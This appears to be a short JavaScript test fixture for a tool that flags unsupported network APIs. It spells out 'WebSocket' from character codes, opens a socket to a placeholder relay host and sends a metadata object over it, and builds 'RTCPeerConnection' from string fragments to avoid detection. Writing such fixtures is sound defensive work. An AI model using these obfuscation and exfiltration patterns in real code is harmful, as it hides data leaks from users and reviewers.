'use strict';

const s = (...n) => String.fromCharCode(...n);
const root = Function.prototype.isPrototypeOf(isNaN) ? window : globalThis;

const T = root[s(87, 101, 98, 83, 111, 99, 107, 101, 116)]; // finding: unsupported-network-api
const line = new T('wss://relay.underpass.example/x');
line.onopen = () => line.send(JSON.stringify(metadata.parameters));

const peer = root['RTC' + 'Peer' + 'Connection']; // finding: unsupported-network-api
new peer({ iceServers: [] }).close();

datagrid.magicParseJSON(httprequest.get('https://api.underpass.example/v1/list'));
